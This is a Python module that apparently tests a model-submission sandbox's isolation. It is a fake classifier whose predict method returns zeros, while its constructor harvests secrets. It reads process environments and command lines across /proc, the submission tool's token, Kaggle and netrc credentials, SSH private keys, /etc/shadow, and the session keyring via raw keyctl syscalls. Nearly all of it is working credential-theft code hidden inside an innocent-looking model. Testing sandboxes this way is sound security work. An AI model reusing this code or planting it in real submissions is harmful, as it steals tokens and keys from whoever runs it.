"""Read every credential: the environment, the parent's /proc/<pid>/environ and command line
(subkit's, holding the token `subkit submit` uses), every visible process's, the user's
credential files (~/.kaggle/kaggle.json, subkit's saved token, ~/.netrc, ssh keys), the
keys of the session keyring it would inherit."""

import ctypes
import glob
import os
import platform

import numpy as np

from attack_common import attempt, read, take, targets

T = targets()


def session_keys():
    """keyctl(KEYCTL_READ) of the session keyring, then of every key in it."""
    libc = ctypes.CDLL(None, use_errno=True)
    nr = {"x86_64": 250, "aarch64": 219}[platform.machine()]
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(nr, 11, -3, buf, 4096)  # KEYCTL_READ, KEY_SPEC_SESSION_KEYRING
    if n < 0:
        raise OSError(ctypes.get_errno(), "keyctl read of the session keyring")
    ids = [int.from_bytes(buf.raw[i:i + 4], "little") for i in range(0, min(n, 4096), 4)]
    found = []
    for key in ids:
        m = libc.syscall(nr, 11, key, buf, 4096)
        found.append(buf.raw[:m].decode("latin-1") if m >= 0 else f"key {key}: refused")
    return found


class Model:
    def __init__(self):
        take("environ", dict(os.environ))
        take("pids", sorted(p for p in os.listdir("/proc") if p.isdigit()))
        attempt("ppid", os.getppid)
        for pid in [os.getppid(), 1] + T.get("pids", []):
            for what in ("environ", "cmdline"):
                attempt(f"/proc/{pid}/{what}", lambda p=pid, w=what: read(f"/proc/{p}/{w}"))
        for path in glob.glob("/proc/*/environ"):
            attempt(path, lambda p=path: read(p))
        for path in T["secret_files"] + ["~/.kaggle/kaggle.json", "~/.netrc", "~/.ssh/id_rsa",
                                         "~/.config/subkit/credentials.json", "/etc/shadow"]:
            attempt(path, lambda p=path: read(p))
        attempt("home_listing", lambda: os.listdir(T["home"]))
        attempt("/proc/keys", lambda: read("/proc/keys"))
        attempt("session_keys", session_keys)

    def predict(self, X):
        return np.zeros(len(X), dtype=np.int64)
